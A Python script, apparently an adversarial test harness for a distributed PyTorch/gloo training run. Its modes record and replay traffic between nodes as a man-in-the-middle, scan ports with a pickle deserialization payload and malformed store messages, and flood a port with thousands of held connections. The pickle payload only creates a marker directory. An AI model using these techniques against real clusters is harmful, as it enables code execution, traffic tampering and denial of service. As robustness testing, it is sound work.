"""A stranger on the network of a run: somebody who reaches its machines and does not know its secret.

    python stranger.py record PORT FORWARD_HOST DIRECTORY         between a node and node 0: passes on and records
    python stranger.py replay PORT FORWARD_HOST DIRECTORY TIMES   says what was recorded so often, then passes on
    python stranger.py scan HOST DIRECTORY MARK                   speaks to every port that is open, again and again
    python stranger.py hold HOST PORT                             keeps thousands of connections, and says nothing

MARK is a directory that is made where somebody unpickles what the stranger sends.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import pickle
import socket
import sys
from pathlib import Path

HELD = 5000
PORTS = range(29_600, 61_000)  # those of the run, of gloo, and of whatever else the system chose one for


class Marker:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> object:
        return os.mkdir, (self._path,)


def recordings(directory: Path, end: str) -> list[bytes]:
    return [each.read_bytes() for each in sorted(directory.glob(f"{end}-*"))]


async def pass_on(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, record: Path | None) -> None:
    with contextlib.suppress(ConnectionError):
        while piece := await reader.read(65536):
            if record is not None:
                with record.open("ab") as file:
                    file.write(piece)
            writer.write(piece)
            await writer.drain()
    writer.close()


async def between(port: int, host: str, directory: Path, repeats: int | None) -> None:
    """Listen for a node. Record what both say, or repeat what node 0 said and then pass on."""
    numbers = itertools.count()
    recorded = recordings(directory, "node-0")
    is_recorded = repeats is None

    async def attend(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        number = next(numbers)
        if number < (repeats or 0):
            writer.write(recorded[number % len(recorded)])
            with contextlib.suppress(ConnectionError, TimeoutError):
                await asyncio.wait_for(reader.read(65536), 10)
            writer.close()
            return
        try:
            far, out = await asyncio.open_connection(host, port)
        except OSError:  # node 0 is not there yet
            writer.close()
            return
        async with asyncio.TaskGroup() as group:
            group.create_task(pass_on(reader, out, directory / f"node-k-{number:03}" if is_recorded else None))
            group.create_task(pass_on(far, writer, directory / f"node-0-{number:03}" if is_recorded else None))

    async with await asyncio.start_server(attend, "0.0.0.0", port) as server:
        await server.serve_forever()


def scan(host: str, directory: Path, mark: str) -> None:
    """Say to each open port all that might do harm, and leave the connections open until the next round."""
    message, hello = pickle.dumps(Marker(mark)), b"\x85\xa4type\xa5hello"
    words = [
        *(message, len(message).to_bytes(8, "little") + message, len(message).to_bytes(4, "big") + message),
        # What sets a key of torch's store.
        b"\x00" + (5).to_bytes(8, "little") + b"/key/" + len(message).to_bytes(8, "little") + message,
        *(len(hello).to_bytes(4, "big") + hello, b"\xff\xff\xff\xff", b"\x00\x00", bytes(range(256)) * 4096),
        *(bytes(8), (1).to_bytes(8, "little"), b"GET / HTTP/1.1\r\n\r\n"),
        *recordings(directory, "node-k"),
        *recordings(directory, "node-0"),
    ]
    while True:
        left_open = []
        for port in PORTS:
            for number, what in enumerate(words):
                connected = socket.socket()
                connected.settimeout(1.0)
                if connected.connect_ex((host, port)):
                    connected.close()
                    break
                if number == 0:
                    sys.stdout.write(f"open: {port}\n")
                    sys.stdout.flush()
                with contextlib.suppress(OSError):
                    connected.sendall(what)
                left_open.append(connected)
        for connected in left_open:
            connected.close()


async def hold(host: str, port: int) -> None:
    """Keep thousands of connections, and open a new one for each that is closed."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port)
                await reader.read()
                writer.close()
            await asyncio.sleep(1.0)

    async with asyncio.TaskGroup() as group:
        for _ in range(HELD):
            group.create_task(one())


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["record", port, host, directory]:
            asyncio.run(between(int(port), host, Path(directory), None))
        case ["replay", port, host, directory, times]:
            asyncio.run(between(int(port), host, Path(directory), int(times)))
        case ["scan", host, directory, mark]:
            scan(host, Path(directory), mark)
        case ["hold", host, port]:
            asyncio.run(hold(host, int(port)))
